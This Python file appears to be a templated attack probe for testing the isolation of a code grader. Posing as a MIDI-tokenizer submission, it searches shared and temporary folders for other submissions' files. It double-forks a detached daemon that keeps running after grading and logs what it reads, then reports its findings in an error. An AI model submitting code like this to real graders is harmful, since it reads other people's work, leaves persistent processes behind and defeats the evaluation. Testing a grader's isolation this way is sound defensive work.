"""Attack: read the other submissions being graded (their files, wherever the grader keeps them:
beside this submission's own folder, in the grader's temporary folders), from each call and from
a detached daemon meant to outlive the grading and read the submissions graded after it.
Graded twice at once (a twin), so that another submission is there to be read."""
import os
import time

MARK = "@@MARK@@"
MARKDIR = "@@MARKDIR@@"
OWN = os.path.dirname(os.path.abspath(__file__))
# Folders that may hold submissions' folders (only modules every worker has: a weak worker of
# another uid may not read the Python installation's other modules).
TOPS = [os.path.dirname(OWN), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm"]
FOUND: list[str] = []
SCANNED = [0.0]


def _files(top: str, depth: int) -> list[str]:
    try:
        entries = list(os.scandir(top))
    except OSError:
        return []
    found = []
    for entry in entries:
        try:
            if entry.is_dir(follow_symlinks=False) and depth:
                found += _files(entry.path, depth - 1)
            elif entry.name.endswith(".py"):
                found.append(entry.path)
        except OSError:
            pass
    return found


def _others() -> list[str]:
    """Files of the twin submission (they hold this run's marker) that could be read."""
    found = []
    for top in TOPS:
        for path in _files(top, 2):
            if os.path.dirname(os.path.abspath(path)) == OWN:
                continue
            try:
                with open(path, "rb") as handle:
                    if MARK.encode() in handle.read(1 << 16):
                        found.append(path)
            except OSError:
                pass
    return sorted(set(found))


def _scan(seconds: float) -> None:
    started = time.monotonic()
    while time.monotonic() - started < seconds:
        FOUND.extend(p for p in _others() if p not in FOUND)
        time.sleep(0.05)
    SCANNED[0] += time.monotonic() - started


def _daemon() -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in range(0, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:   # any other submission it reads is written down
        found = _others()
        if found:
            try:
                with open(os.path.join(MARKDIR, f"{MARK}-found-{os.getpid()}"), "w") as handle:
                    handle.write(MARK + "\n" + "\n".join(found))
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)


try:
    _daemon()
except OSError:
    pass


def _report():
    if SCANNED[0] < 6:
        _scan(2.0)
    raise RuntimeError(f"AG-ATTACK report: {len(FOUND)} found: {FOUND[:10]}")


def midi_to_tokens(midi):
    _report()


def tokens_to_midi(tokens, bpm=120):
    _report()
